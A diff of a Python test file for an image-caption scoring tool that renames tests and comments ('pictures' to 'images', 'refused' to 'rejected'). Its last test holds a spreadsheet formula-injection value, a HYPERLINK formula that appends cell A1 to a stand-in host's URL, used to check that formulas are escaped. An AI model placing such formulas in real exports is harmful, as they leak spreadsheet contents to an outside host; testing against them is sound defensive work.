@@ -1,4 +1,4 @@
-"""Runs over files: every row kept, order kept, crashes survived, pictures read once."""
+"""Runs over files: every row kept, order kept, crashes survived, images read once."""
 
 import datetime
 import json
@@ -56,7 +56,7 @@ def run(scorer, path, output, **options):
 
 
 class Counting:
-    """The toy encoder, counting the pictures it reads."""
+    """The toy encoder, counting the images it reads."""
 
     def __init__(self, stop_after=None):
         self._toy = load_encoder("toy")
@@ -97,7 +97,7 @@ def test_rows_keep_their_order_and_columns_and_equal_the_scorer(tmp_path):
             assert {name: row[name] for name in COLUMNS} == score.row()
 
 
-def test_repeated_pictures_are_encoded_once(tmp_path):
+def test_repeated_images_are_encoded_once(tmp_path):
     path, _ = make_input(tmp_path)
     encoder = Counting()
     run(Scorer(encoder), path, tmp_path / "out.parquet", part_rows=3)
@@ -129,7 +129,7 @@ def test_a_second_run_over_finished_work_does_nothing(tmp_path):
     assert output.stat().st_mtime_ns == before
 
 
-def test_changed_input_or_settings_are_refused(tmp_path):
+def test_changed_input_or_settings_are_rejected(tmp_path):
     path, _ = make_input(tmp_path)
     output = tmp_path / "out.parquet"
     run(Scorer("toy"), path, output)
@@ -163,7 +163,7 @@ def test_bad_rows_say_why_and_the_rest_goes_on(tmp_path):
     assert errors[3] == "caption is empty"
     assert "has no words" in errors[4]
     assert results[5]["caption"] == rows[5]["caption"]
-    # A row that failed is no member of the candidate set of its picture.
+    # A row that failed is no member of the candidate set of its image.
     assert results[0]["uncertainty"] == 1.0
     assert [row["id"] for row in results] == [str(i) for i in range(7)]
 
@@ -281,7 +281,7 @@ def test_kill_nine_loses_at_most_one_chunk(tmp_path):
     assert output.read_bytes() == clean.read_bytes()
 
 
-def test_pictures_that_vanish_during_a_run_are_scored_when_they_are_back(tmp_path, monkeypatch):
+def test_images_that_vanish_during_a_run_are_scored_when_they_are_back(tmp_path, monkeypatch):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / "out.jsonl", tmp_path / "clean.jsonl"
     run(Scorer("toy"), path, clean, part_rows=8)
@@ -327,7 +327,7 @@ SUFFIXES = [".parquet", ".jsonl", ".csv", ".tsv", ".json"]
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
-def test_a_picture_replaced_behind_its_path_is_scored_again_and_no_other(tmp_path, suffix):
+def test_an_image_replaced_behind_its_path_is_scored_again_and_no_other(tmp_path, suffix):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / f"out{suffix}", tmp_path / f"clean{suffix}"
     run(Scorer("toy"), path, output, part_rows=8)
@@ -365,7 +365,7 @@ def test_the_least_supported_words_are_a_column_that_a_later_run_keeps(tmp_path,
         run(scorer, path, output, part_rows=8)
 
 
-def test_a_resumed_run_notices_a_replaced_picture(tmp_path):
+def test_a_resumed_run_notices_a_replaced_image(tmp_path):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / "out.jsonl", tmp_path / "clean.jsonl"
     with pytest.raises(KeyboardInterrupt):
@@ -401,7 +401,7 @@ def test_failed_rows_are_tried_again_when_their_cause_is_gone(tmp_path):
     assert pq.read_table(output).equals(pq.read_table(whole))
 
 
-def test_pictures_found_by_id_may_come_later(tmp_path):
+def test_images_found_by_id_may_come_later(tmp_path):
     make_input(tmp_path)
     folder = tmp_path / "pictures"
     folder.mkdir()
@@ -477,7 +477,7 @@ def test_tables_keep_clashing_columns_under_another_name(tmp_path, suffix):
     assert rows[2]["input_msd"] == "also mine"
 
 
-def test_a_late_column_that_is_called_as_ours_is_told_and_kept(tmp_path):
+def test_a_late_column_that_is_called_as_ours_is_reported_and_kept(tmp_path):
     make_input(tmp_path)
     path, output = tmp_path / "late.jsonl", tmp_path / "out.jsonl"
     plain = [{"image": "red.png", "caption": f"red {i}", **({"msd": i} if i == 0 else {})} for i in range(40)]
@@ -512,7 +512,7 @@ def test_rows_without_an_id_have_their_number(tmp_path, given, expected):
         assert pq.read_table(tmp_path / "out.parquet")["id"].to_pylist() == expected
 
 
-def test_numbers_that_json_does_not_have_are_told(tmp_path):
+def test_numbers_that_json_does_not_have_are_reported(tmp_path):
     make_input(tmp_path)
     lines = ['{"image": "red.png", "caption": "Infinity pool", "loss": NaN, "box": [1, -Infinity]}']
     lines += ['{"image": "red.png", "caption": "NaN"}', '{"image": "red.png", "caption": "e999", "loss": 1e308}']
@@ -534,7 +534,7 @@ def test_numbers_that_json_does_not_have_are_told(tmp_path):
             assert (row["loss"], "loss contains NaN or Infinity" in row["warnings"]) == (None, True)
 
 
-def test_infinities_of_tables_are_told_and_missing_numbers_are_not(tmp_path):
+def test_infinities_of_tables_are_reported_and_missing_numbers_are_not(tmp_path):
     make_input(tmp_path)
     inf, nan = float("inf"), float("nan")
     columns = {
@@ -553,7 +553,7 @@ def test_infinities_of_tables_are_told_and_missing_numbers_are_not(tmp_path):
     assert read_rows(tmp_path / "text.jsonl")[0]["loss"] == "1e999"  # a text stays as it is written
 
 
-def test_a_prefix_leaves_the_input_alone(tmp_path):
+def test_a_prefix_leaves_the_input_unchanged(tmp_path):
     make_input(tmp_path)
     path, output = tmp_path / "odd.jsonl", tmp_path / "out.parquet"
     path.write_text("\n".join(map(json.dumps, [*ODD, {"image": "gone.png", "caption": "x"}])))
@@ -608,7 +608,7 @@ def test_rows_that_memory_does_not_hold_lie_in_a_file(tmp_path, monkeypatch, mos
     assert pq.read_table(tmp_path / "again.parquet") == pq.read_table(tmp_path / "kept.parquet")
 
 
-def test_groups_of_several_pictures_are_warned_of_and_counted(tmp_path):
+def test_groups_of_several_images_are_warned_of_and_counted(tmp_path):
     make_input(tmp_path)
     rows = [
         {"image": "red.png", "caption": "red", "group": "a"},
@@ -673,7 +673,7 @@ def replace_input(path, how):
 
 @pytest.mark.parametrize("how", ["reversed", "inserted", "edited", "cut"])
 @pytest.mark.parametrize("moment", ["scoring", "assembling"])
-def test_an_input_replaced_during_a_run_is_refused_with_nothing_lost(tmp_path, monkeypatch, how, moment):
+def test_an_input_replaced_during_a_run_is_rejected_with_nothing_lost(tmp_path, monkeypatch, how, moment):
     path, _ = make_input(tmp_path)
     output, original = tmp_path / "out.jsonl", path.read_bytes()
     replaced = []
@@ -697,7 +697,7 @@ def test_an_input_replaced_during_a_run_is_refused_with_nothing_lost(tmp_path, m
 
 
 @pytest.mark.parametrize("name", ["rows.csv", "rows.json", "rows.parquet"])
-def test_other_formats_replaced_during_a_run_are_refused_too(tmp_path, name):
+def test_other_formats_replaced_during_a_run_are_rejected_too(tmp_path, name):
     _, lines = make_input(tmp_path)
     path, output = tmp_path / name, tmp_path / "out.parquet"
 
@@ -727,7 +727,7 @@ def test_parts_of_another_state_of_the_input_are_scored_again(tmp_path):
     assert output.read_bytes() == (tmp_path / "clean.jsonl").read_bytes()
 
 
-def test_rows_read_while_the_input_was_another_one_are_refused(tmp_path):
+def test_rows_read_while_the_input_was_another_one_are_rejected(tmp_path):
     """Changed before it is read, put back before it is compared; one that is only touched is the same."""
     path, _ = make_input(tmp_path)
     output, original = tmp_path / "out.jsonl", path.read_bytes()
@@ -745,7 +745,7 @@ def test_rows_read_while_the_input_was_another_one_are_refused(tmp_path):
     assert run(Scorer("toy"), path, output, part_rows=8, progress=lambda done, total: os.utime(path)).rows == 40
 
 
-def test_a_picture_of_equal_size_and_time_is_noticed(tmp_path):
+def test_an_image_of_equal_size_and_time_is_noticed(tmp_path):
     path, _ = make_input(tmp_path)
     for colour in COLOURS:
         Image.new("RGB", (48, 32), colour).save(tmp_path / f"{colour}.png", format="BMP")
@@ -758,7 +758,7 @@ def test_a_picture_of_equal_size_and_time_is_noticed(tmp_path):
     assert run(Scorer("toy"), path, output, part_rows=8).scored == 8
 
 
-def test_an_image_replaced_during_a_run_is_told_and_scored_again(tmp_path):
+def test_an_image_replaced_during_a_run_is_reported_and_scored_again(tmp_path):
     path, _ = make_input(tmp_path)
     output, image, replaced = tmp_path / "out.jsonl", tmp_path / "red.png", []
 
@@ -780,7 +780,7 @@ def test_an_image_replaced_during_a_run_is_told_and_scored_again(tmp_path):
     assert run(Scorer("toy"), path, output, part_rows=100).scored == 0
 
 
-def test_large_pictures_are_known_by_their_content_when_asked(tmp_path, monkeypatch):
+def test_large_images_are_known_by_their_content_on_request(tmp_path, monkeypatch):
     monkeypatch.setattr("msdscore.io.hashing.HASHED_BYTES", 10)
     path, _ = make_input(tmp_path)
     output, picture = tmp_path / "out.jsonl", tmp_path / "red.png"
@@ -809,7 +809,7 @@ def test_rows_with_repeated_ids_are_all_scored(tmp_path):
     assert [row["caption"] for row in read_rows(output)] == [line["caption"] for line in lines]
 
 
-def test_a_tar_replaced_during_a_run_over_one_file_is_refused(tmp_path):
+def test_a_tar_replaced_during_a_run_over_one_file_is_rejected(tmp_path):
     path, output = write_tar(tmp_path / "rows.tar"), tmp_path / "out.jsonl"
     other = write_tar(tmp_path / "other.tar", first=1)
     with pytest.raises(RunError, match=r"rows\.tar: was changed while it was scored"):
@@ -818,7 +818,7 @@ def test_a_tar_replaced_during_a_run_over_one_file_is_refused(tmp_path):
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a disk that is always full")
-def test_a_full_temporary_folder_is_one_line_and_the_run_goes_on(tmp_path, monkeypatch):
+def test_a_full_temporary_folder_is_a_one_line_error_and_the_run_goes_on(tmp_path, monkeypatch):
     full, (path, _) = Path("/dev/full"), make_input(tmp_path)
     run(Scorer("toy"), path, tmp_path / "whole.parquet")
     with monkeypatch.context() as patch:
@@ -883,7 +883,7 @@ def test_a_prefix_is_printable(tmp_path):
 
 
 @pytest.mark.parametrize("suffix", ["csv", "tsv"])
-def test_formulas_are_text_for_a_spreadsheet_when_asked(tmp_path, suffix):
+def test_formulas_are_text_for_a_spreadsheet_on_request(tmp_path, suffix):
     path, rows = make_input(tmp_path, rows=3)
     formula = '=HYPERLINK("http://x.invalid/?"&A1,"dog")'
     rows[0] |= {"=note": formula, "less": -3}
